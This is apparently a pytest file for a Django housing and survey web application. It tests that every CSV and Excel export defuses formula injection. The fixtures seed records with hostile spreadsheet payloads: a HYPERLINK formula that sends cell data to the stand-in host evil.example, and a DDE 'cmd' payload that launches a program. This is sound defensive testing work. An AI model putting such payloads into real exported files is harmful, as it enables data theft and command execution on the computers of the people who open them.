"""Every export of the product, filled with formulas that students and colleagues typed.

A new export is added to ``EXPORTS``; ``test_tables_out.py`` refuses one that does not go through
the one place where tables are written.
"""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from tests.webapp.factories.placed import placed_cohort
from webapp.accounts.models import User
from webapp.api.services import token_create
from webapp.audit.services import audit
from webapp.cohorts.models import Cohort, Student
from webapp.housing.models import BuildingList, Place, PlacedPair, Placement, Room
from webapp.housing.models.change import ProposedChange
from webapp.housing.selectors.changes import ChangedPlace
from webapp.letters.models import LetterTemplate
from webapp.letters.services.templates import template_save
from webapp.matching.models import LearnedModel
from webapp.reports.models import RosterShape
from webapp.reports.services import shape_save
from webapp.segmentation.models import (
    ImageFile,
    ImageSet,
    PredictedImage,
    PredictionBatch,
    Segmenter,
)
from webapp.surveys.content import Content, Kind, QuestionContent
from webapp.surveys.models import Participant, Questionnaire
from webapp.surveys.questions import questions_of
from webapp.surveys.services.answers import answer_save, answers_finish, participant_begin
from webapp.surveys.services.cohorts import cohort_from_answers
from webapp.surveys.services.questionnaires import questionnaire_create, questionnaire_open
from webapp.surveys.services.translations import translations_set
from webapp.tabular.tables_out import CSV, XLSX

LINK = '=HYPERLINK("http://evil.example?x="&A1,"open")'
# Cells are written from texts in memory, whichever database these came from.
pytestmark = pytest.mark.any_database
TYPED = (LINK, "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1+1", "\uff1d1+1")


@dataclass
class World:
    """Northfield, in which everything that has a name is called like a formula."""

    client: Client
    program: Client
    placement: Placement
    shapes: dict[str, RosterShape]
    letter: LetterTemplate
    proposal: Placement
    model: LearnedModel
    asked: Questionnaire
    batch: PredictionBatch
    image: PredictedImage

    def page(self, name: str, *args: object, query: str = "") -> object:
        return self.client.get(reverse(name, args=args) + query)

    def call(self, path: str, query: str = "") -> object:
        return self.program.get(f"/api/v1{path}{query}")


def _csv_and_xlsx(make: Callable[[World, str], object]) -> dict[str, Callable[[World], object]]:
    return {kind: lambda w, kind=kind: make(w, kind) for kind in ("csv", "xlsx")}


P = "housing:placement-export"
FAMILIES: dict[str, Callable[[World, str], object]] = {
    "roster": lambda w, k: w.page(P, w.placement.pk, k),
    "roster, exact": lambda w, k: w.page(P, w.placement.pk, k, query="?ids=exact"),
    "rooms": lambda w, k: w.page(P, w.placement.pk, k, query="?by=room"),
    "rooms, exact": lambda w, k: w.page(P, w.placement.pk, k, query="?by=room&ids=exact"),
    "kept roster": lambda w, k: w.page(
        "reports:roster-file", w.placement.pk, w.shapes["safe"].pk, k
    ),
    "kept roster, exact": lambda w, k: w.page(
        "reports:roster-file", w.placement.pk, w.shapes["exact"].pk, k
    ),
    "moves": lambda w, k: w.page("housing:changes-moves", w.placement.pk, k),
    "scenarios": lambda w, k: w.page("housing:scenarios-file", w.placement.cohort_id, k),
    "pairs": lambda w, k: w.page("housing:pairs-export", w.proposal.pk, k),
    "letters": lambda w, k: w.page(
        "letters:placement-file", w.placement.pk, query=f"?letter={w.letter.pk}&shape={k}"
    ),
    "answers": lambda w, k: w.page("surveys:answers-file", w.asked.pk, k),
    "texts": lambda w, k: w.page("surveys:texts-file", w.asked.pk, k),
    "objects of a prediction": lambda w, k: w.page(
        "segmentation:prediction-objects-file", w.batch.pk, k
    ),
    "program: roster": lambda w, k: w.call(f"/placements/{w.placement.pk}/roster/{k}"),
    "program: rooms": lambda w, k: w.call(f"/placements/{w.placement.pk}/roster/{k}", "?by=room"),
    "program: roster, exact": lambda w, k: w.call(
        f"/placements/{w.placement.pk}/roster/{k}", "?ids=exact"
    ),
    "program: kept roster": lambda w, k: w.call(
        f"/placements/{w.placement.pk}/rosters/{w.shapes['safe'].pk}/{k}"
    ),
    "program: moves": lambda w, k: w.call(f"/placements/{w.placement.pk}/late-changes/moves/{k}"),
    "program: pairs": lambda w, k: w.call(f"/proposals/{w.proposal.pk}/export/{k}"),
    "program: letters": lambda w, k: w.call(
        f"/placements/{w.placement.pk}/letters/{w.letter.pk}/file/{k}"
    ),
}
SINGLE: dict[str, Callable[[World], object]] = {
    "report by hall": lambda w: w.page("reports:report-file", w.placement.pk),
    "program: report by hall": lambda w: w.call(f"/placements/{w.placement.pk}/report/xlsx"),
    "letters for Word": lambda w: w.page(
        "letters:placement-file", w.placement.pk, query=f"?letter={w.letter.pk}&shape=word"
    ),
    "program: letters for Word": lambda w: w.call(
        f"/placements/{w.placement.pk}/letters/{w.letter.pk}/file/word"
    ),
    "weights": lambda w: w.page("matching:model-weights", w.model.pk),
    "languages": lambda w: w.page("surveys:languages-file", w.asked.pk),
    "audit log": lambda w: w.page("audit:export"),
    "numbers of a prediction": lambda w: w.page("segmentation:prediction-csv", w.batch.pk),
    "objects of an image": lambda w: w.page(
        "segmentation:predicted-image-file", w.batch.pk, w.image.pk, "objects.csv"
    ),
    "objects while painting": lambda w: w.page(
        "segmentation:paint-objects", w.batch.image_set_id, w.image.file_id, query="?format=csv"
    ),
    "archive of a prediction": lambda w: w.page("segmentation:prediction-archive", w.batch.pk),
    "program: archive of a prediction": lambda w: w.call(f"/predictions/{w.batch.pk}/archive"),
}
EXPORTS = SINGLE | {
    f"{name}, {kind}": make
    for name, family in FAMILIES.items()
    for kind, make in _csv_and_xlsx(family).items()
}


@pytest.fixture
def asked(bob: User) -> Questionnaire:
    """A questionnaire by code, whose words are formulas, answered by six students."""
    made = questionnaire_create(user=bob, title="Housing 2027", form="housing")
    made.content = _like_formulas(made.content)
    made.save()
    until = timezone.now() + timedelta(days=9)
    questionnaire_open(user=bob, questionnaire=made, closes_at=until)
    made.refresh_from_db()
    written = next(q for q in questions_of(made.content) if q.kind is Kind.TEXT)
    row = participant_begin(questionnaire=made, identifier=TYPED[0])
    for question in questions_of(made.content):
        if question.options:
            answer_save(participant=row, question=question, values=["0"])
        elif question.kind is Kind.TIME:
            answer_save(participant=row, question=question, values=["20:15"])
    answer_save(participant=row, question=written, values=[TYPED[0]])
    answers_finish(participant=row)
    row.refresh_from_db()
    for text in TYPED[1:]:
        answers = row.answers | {written.key: text}
        copy = Participant(questionnaire=made, identifier=text, finished_at=row.finished_at)
        copy.answers, copy.updated_at = answers, row.updated_at
        copy.save()
    first = questions_of(made.content)[0].text
    translations_set(
        user=bob, questionnaire=made, version=made.version, translations={"fr": {first: LINK}}
    )
    return made


def _like_formulas(content: Content) -> Content:
    """The questions of a form, in words that begin like formulas, and one more to write into."""
    sections = [
        section.model_copy(
            update={
                "questions": tuple(
                    question.model_copy(
                        update={
                            "name": f"={question.name}"[:40],
                            "text": f"=1+{question.text}",
                            "answers": tuple(f"@{answer}" for answer in question.answers),
                        }
                    )
                    for question in section.questions
                )
            }
        )
        for section in content.sections
    ]
    written = QuestionContent(key="own", kind=Kind.TEXT, name="=Anything", text="=Anything else?")
    sections[-1] = sections[-1].model_copy(update={"questions": (*sections[-1].questions, written)})
    return content.model_copy(update={"sections": tuple(sections)})


@pytest.fixture
def world(
    bob: User,
    carol: User,
    asked: Questionnaire,
    client_of: Callable,
    monkeypatch: pytest.MonkeyPatch,
) -> World:
    cohort = cohort_from_answers(user=bob, questionnaire=asked, name="=First-years")
    placement = _placement(bob, cohort)
    audit(bob, "imported", LINK, file=LINK)
    _, secret = token_create(user=carol, name="sync", days=30, may_change=True)
    batch, image = _prediction(bob, monkeypatch)
    shapes = {
        word: shape_save(
            user=bob, name=f"={word}/[1]", is_exact=word == "exact",
            columns=[("id", LINK), ("hall", "@Hall"), ("room", "-Room"), ("on_screen", "+S")],
        )
        for word in ("safe", "exact")
    }  # fmt: skip
    letter = template_save(
        user=bob, template=None, name="=L", subject="=S [name]", text="=T [name]\n=[roommates]"
    )
    proposal = _pairs(bob, placement)
    _moves(placement, monkeypatch)
    program = Client(headers={"Authorization": f"Bearer {secret}"})
    return World(
        client_of(carol), program, placement, shapes, letter, proposal, proposal.model, asked,
        batch, image,
    )  # fmt: skip


def _placement(user: User, cohort: Cohort) -> Placement:
    """Rooms for the students who answered, with names that look like formulas too."""
    made = placed_cohort(user)
    students = list(cohort.students.order_by("number"))
    for place, student in zip(made.places.order_by("pk"), students, strict=True):
        place.student, place.number = student, student.number
        place.save()
    Student.objects.filter(cohort=cohort).update(name=LINK, email="=x@uni.example")
    Placement.objects.filter(pk=made.pk).update(cohort=cohort, name=LINK)
    Room.objects.filter(buildings=made.buildings).update(hall="=Alder", floor="-1+1")
    for room in Room.objects.filter(buildings=made.buildings):
        Room.objects.filter(pk=room.pk).update(name=f"@{room.name}")
    return Placement.objects.get(pk=made.pk)


def _pairs(user: User, placement: Placement) -> Placement:
    model = placement.model
    row = {"kind": "=nominal", "effect": 1.0, "odds": 2.0, "importance": 3.0, "words": LINK,
           "distance_weight": -4.0, "per": "x"}  # fmt: skip
    LearnedModel.objects.filter(pk=model.pk).update(
        weights=[row | {"question": text} for text in TYPED], learned_at=timezone.now()
    )
    model.refresh_from_db()
    buildings = BuildingList.everything.create(
        organisation=user.organisation, name="Pairs", is_private=True
    )
    paired = Placement.objects.create(
        organisation=user.organisation, name=LINK, cohort=placement.cohort, model=model, revision=1,
        buildings=buildings, is_pairs=True,
    )  # fmt: skip
    room = Room.objects.create(buildings=buildings, hall="Pair", name="1", capacity=2)
    first, second = placement.cohort.students.order_by("number")[:2]
    PlacedPair.objects.create(
        placement=paired, room=room, first=first, second=second, first_number=first.number,
        second_number=second.number, score=-1.5, probability=0.5, multiple=1.0, doubt=0.1,
        allowed=1.0, doubt_share=0.1, decided_by="@dora", state="accepted",
    )  # fmt: skip
    return paired


def _moves(placement: Placement, monkeypatch: pytest.MonkeyPatch) -> None:
    ProposedChange.objects.create(placement=placement, price=1.0, is_ready=True)
    place = Place.objects.filter(placement=placement, room__isnull=False).first()
    rows = [ChangedPlace(place.number, place.room, None, LINK, -0.5)]
    for module in ("webapp.housing.views.changes", "webapp.api.endpoints.late_changes"):
        monkeypatch.setattr(f"{module}.explained_changes", lambda *_: rows)


def _prediction(
    user: User, monkeypatch: pytest.MonkeyPatch
) -> tuple[PredictionBatch, PredictedImage]:
    """A prediction of one picture; files of arrays are left out, since tables hold names alone."""
    own = {"organisation": user.organisation, "created_by": user}
    image_set = ImageSet.objects.create(**own, name=LINK, foreground="=leaf")
    file = ImageFile.objects.create(
        image_set=image_set, name=f"{LINK[:60]}.png", digest="0" * 64, size=1, width=2, height=2
    )
    segmenter = Segmenter.objects.create(**own, name=LINK, foreground="=leaf")
    batch = PredictionBatch.objects.create(
        **own, name=LINK, segmenter=segmenter, image_set=image_set
    )
    image = PredictedImage.objects.create(
        batch=batch, file=file, name=file.name, image_digest="0" * 64, state="done",
        sentence=LINK, width=2, height=2,
    )  # fmt: skip
    found = {"number": 1, "area": 4.0, "perimeter": 8.0, "column": 1.0, "row": 1.0, "mean": -0.5,
             "sureness": None, "class": "=leaf"}  # fmt: skip
    rows = [(file.name, found)]
    for module in ("exports", "views.predictions", "views.predicted_images"):
        monkeypatch.setattr(f"webapp.segmentation.{module}.object_rows", lambda *_: rows)
    monkeypatch.setattr(
        "webapp.segmentation.views.painting.painting.objects", lambda *_, **__: [dict(found)]
    )
    monkeypatch.setattr("webapp.segmentation.exports._coco_chunks", lambda *_: iter([b"{}"]))
    for name in ("_file_chunks", "_labels_chunks"):
        monkeypatch.setattr(f"webapp.segmentation.exports.{name}", lambda *_: iter([b""]))
    return batch, image


def tables_of(answer: object) -> Iterator[tuple[str, list[tuple[object, str]]]]:
    """Yield every table of an answer: its kind, and its cells with their types."""
    content = answer.getvalue() if answer.streaming else answer.content
    kind = answer["Content-Type"]
    if kind == "application/zip":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    yield "csv", _csv_cells(archive.read(name))
    elif kind == XLSX:
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        yield "xlsx", [(cell.value, cell.data_type) for cell in cells]
    else:
        assert kind == CSV
        yield "csv", _csv_cells(content)


def _csv_cells(data: bytes) -> list[tuple[object, str]]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [(cell, "s") for row in rows for cell in row]


RUNS = re.compile(r"[\s\u200b\"]*[=+\-@\uff1d\uff0b\uff0d\uff20|%]|[\t\r\n]")
NUMBER = re.compile(r"-?[\d.,]+(e-?\d+)?|-")
# What an office chose to leave as it is: headings of the kept roster, halls, floors, rooms.
OF_THE_OFFICE = re.compile(r"=Alder.*|-1\+1|@10\d|@Hall|-Room|\+S")


def formulas_of(texts: list[str]) -> list[str]:
    return [text for text in texts if RUNS.match(text) and not NUMBER.fullmatch(text)]


@pytest.mark.parametrize("name", EXPORTS)
def test_no_cell_of_an_export_is_a_formula(world: World, name: str) -> None:
    answer = EXPORTS[name](world)
    assert answer.status_code == 200
    tables = list(tables_of(answer))
    assert tables
    for kind, cells in tables:
        texts = [value for value, _ in cells if isinstance(value, str)]
        assert formulas_of([text.lstrip("'") for text in texts]), "there was nothing to defuse"
        assert not [value for value, data_type in cells if data_type == "f"]
        found = formulas_of(texts) if kind == "csv" else []
        if "exact" in name:
            found = [text for text in found if not OF_THE_OFFICE.fullmatch(text) and text != LINK]
        assert not found


def test_exact_is_a_choice_and_never_for_what_students_typed(world: World) -> None:
    usual, exact = (
        list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
        for answer in (
            world.page("reports:roster-file", world.placement.pk, world.shapes[word].pk, "csv")
            for word in ("safe", "exact")
        )
    )
    assert usual[0] == [f"'{LINK}", "'@Hall", "'-Room", "'+S"]
    assert exact[0] == [LINK, "@Hall", "-Room", "+S"]
    for number, hall, room, _ in exact[1:]:
        assert number.startswith("'")
        assert not hall.startswith("'")
        assert not room.startswith("'")
    shape = RosterShape(organisation=world.placement.organisation, name="x", columns=[])
    assert not shape.is_exact
